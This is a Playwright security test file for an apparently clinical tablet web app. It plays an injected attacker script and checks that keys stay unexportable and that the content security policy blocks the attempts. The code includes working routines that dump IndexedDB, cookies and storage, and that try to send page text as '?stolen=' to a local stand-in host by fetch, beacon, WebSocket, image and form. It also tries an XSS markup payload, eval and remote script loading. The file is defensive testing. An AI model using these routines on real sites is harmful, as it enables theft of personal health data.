/**
 * S-35: a script of an attacker that already runs in our page, on a tablet that is signed in. It can read what the nurse
 * can read: that cannot be prevented in a browser. It gets no key out, and has no way of its own to another place.
 */
import { createServer, type Server } from 'node:http';
import { expect, test } from '@playwright/test';
import { openStation, openTablet, registerPerson, signInOnline, THAM } from './tablet.ts';
import type { Station, Tablet } from './tablet.ts';

const PERSON = { name: 'Lò Thị Zqxmận', birthDate: '14/05/2025', sex: 'Nữ' } as const;

let station: Station;
let tablet: Tablet;
let elsewhere: Server;
let elsewhereUrl = '';
/** What came to the other place. */
const received: string[] = [];

test.beforeAll(async () => {
	elsewhere = createServer((request, answer) => {
		received.push(`${request.method ?? ''} ${request.url ?? ''}`);
		answer.setHeader('access-control-allow-origin', '*');
		answer.end('x = 1');
	});
	await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
	const address = elsewhere.address();
	if (address === null || typeof address === 'string') throw new Error('no port');
	elsewhereUrl = `http://127.0.0.1:${address.port}`;
	station = await openStation();
	tablet = await openTablet(station.address);
	await signInOnline(tablet, THAM);
	await registerPerson(tablet, PERSON);
});
test.afterAll(async () => {
	await tablet.close();
	await station.close();
	elsewhere.close();
});

/** Everything a script finds that lies in the browser, and what became of each key it tried to take. */
function takeEverything() {
	const asPromise = <T>(request: IDBRequest<T>): Promise<T> =>
		new Promise((resolve, reject) => {
			request.addEventListener('success', () => resolve(request.result));
			request.addEventListener('error', () => reject(request.error ?? new Error('no reason')));
		});
	const keysIn = (value: unknown): CryptoKey[] => {
		if (value instanceof CryptoKey) return [value];
		if (ArrayBuffer.isView(value) || typeof value !== 'object' || value === null) return [];
		return Object.values(value).flatMap(keysIn);
	};
	/** Bytes as the text they may hold. */
	const asText = (_name: string, value: unknown): unknown => {
		if (value instanceof Uint8Array) return new TextDecoder().decode(value);
		return typeof value === 'bigint' ? String(value) : value;
	};
	const take = async (key: CryptoKey): Promise<string> => {
		const formats = key.type === 'public' ? [] : (['pkcs8', 'jwk', 'raw'] as const);
		for (const format of formats) {
			const taken = await crypto.subtle.exportKey(format, key).catch(() => undefined);
			if (taken !== undefined) return `taken as ${format}`;
		}
		return `${key.type} kept`;
	};
	return (async () => {
		const outcomes: string[] = [];
		let text = '';
		for (const { name = '' } of await indexedDB.databases()) {
			const database = await asPromise(indexedDB.open(name));
			for (const store of database.objectStoreNames) {
				const rows = await asPromise(database.transaction(store).objectStore(store).getAll());
				text += JSON.stringify(rows, asText);
				for (const key of keysIn(rows)) outcomes.push(await take(key));
			}
			database.close();
		}
		const beside = [document.cookie, JSON.stringify([localStorage, sessionStorage])];
		return { outcomes, text: text + beside.join(' ') };
	})();
}

test('takes no key out of the browser, and finds neither a cookie nor a person in clear in what is stored', async () => {
	const { outcomes, text } = await tablet.page.evaluate(takeEverything);
	expect(outcomes).toContain('private kept');
	expect(outcomes.filter((outcome) => outcome.startsWith('taken'))).toEqual([]);
	expect(text.length).toBeGreaterThan(1_000);
	expect(text).not.toContain('Zqxmận');
	expect(await tablet.page.evaluate(() => document.cookie)).toBe('');
	const cookies = await tablet.context.cookies();
	expect(cookies.filter(({ httpOnly }) => !httpOnly)).toEqual([]);
});

/** Tries every way of sending that a page has without leaving itself. What the policy stopped is noted on the page. */
function sendAway(to: string): void {
	const stopped: string[] = [];
	Object.assign(globalThis, { stopped });
	document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
		stopped.push(`${new URL(blockedURI).pathname} ${effectiveDirective}`);
	});
	const stolen = `?stolen=${encodeURIComponent(document.body.innerText.slice(0, 50))}`;
	const attempt = (act: () => unknown): void => {
		try {
			act();
		} catch {
			// Refused at once.
		}
	};
	attempt(() => void fetch(`${to}/fetch${stolen}`, { mode: 'no-cors' }).catch(() => undefined));
	const request = new XMLHttpRequest();
	request.open('POST', `${to}/xhr`);
	attempt(() => request.send(stolen));
	attempt(() => navigator.sendBeacon(`${to}/beacon`, stolen));
	attempt(() => new WebSocket(`${to.replace('http', 'ws')}/socket${stolen}`));
	attempt(() => new EventSource(`${to}/source${stolen}`));
	const image = Object.assign(new Image(), { src: `${to}/image${stolen}` });
	const style = document.createElement('link');
	Object.assign(style, { rel: 'stylesheet', href: `${to}/style${stolen}` });
	const form = document.createElement('form');
	Object.assign(form, { action: `${to}/form`, method: 'POST' });
	document.body.append(image, style, form);
	attempt(() => form.submit());
}

/** Whether each way to more code fails, by its name. */
async function runMore(to: string): Promise<Record<string, string>> {
	const outcomes: Record<string, string> = {};
	// What the test itself asks of the page may use `eval`; what runs afterwards may not.
	await new Promise((resolve) => setTimeout(resolve));
	const attempt = (name: string, act: () => unknown): void => {
		try {
			act();
			outcomes[name] = 'done';
		} catch (error) {
			outcomes[name] = error instanceof Error ? error.name : 'thrown';
		}
	};
	const div = document.createElement('div');
	attempt('eval', () => (0, eval)('1'));
	attempt('function', () => Reflect.construct(Function, ['return 1']));
	attempt('timer', () => setTimeout('1' as unknown as () => void));
	attempt('markup', () => (div.innerHTML = '<img src=x onerror=alert(1)>'));
	attempt('beside', () => div.insertAdjacentHTML('afterend', '<script>1</script>'));
	attempt('frame', () => (document.createElement('iframe').srcdoc = '<script>1</script>'));
	attempt('script', () => (document.createElement('script').src = `${to}/script.js`));
	attempt('inline', () => (document.createElement('script').text = '1'));
	attempt('worker', () => new Worker(`${to}/worker.js`));
	attempt('blob', () => new Worker(URL.createObjectURL(new Blob(['1']))));
	attempt('policy', () => {
		const { trustedTypes } = globalThis as unknown as {
			trustedTypes: { createPolicy(name: string, rules: object): unknown };
		};
		trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
	});
	await navigator.serviceWorker.register(`${location.origin}/api/health`).then(
		() => (outcomes['service worker'] = 'done'),
		() => (outcomes['service worker'] = 'refused')
	);
	await import(/* @vite-ignore */ `${to}/module.js`).then(
		() => (outcomes['module'] = 'done'),
		() => (outcomes['module'] = 'refused')
	);
	return outcomes;
}

test('makes no more code out of text, and loads none from another place', async () => {
	const outcomes = await tablet.page.evaluate(runMore, elsewhereUrl);
	expect(Object.keys(outcomes)).toHaveLength(13);
	expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'done')).toEqual([]);
	expect(received).toEqual([]);
});

test('sends nothing to another place by any of the ways a page has', async () => {
	const { page } = tablet;
	await page.evaluate(sendAway, elsewhereUrl);
	// Twice each: by the policy of the header, and by that of the page.
	const stopped = async () => {
		const all = await page.evaluate(() => (globalThis as unknown as { stopped: string[] }).stopped);
		return [...new Set(all)].sort();
	};
	await expect
		.poll(stopped)
		.toEqual([
			'/beacon connect-src',
			'/fetch connect-src',
			'/form form-action',
			'/image img-src',
			'/socket connect-src',
			'/source connect-src',
			'/style style-src-elem',
			'/xhr connect-src'
		]);
	expect(received).toEqual([]);
});
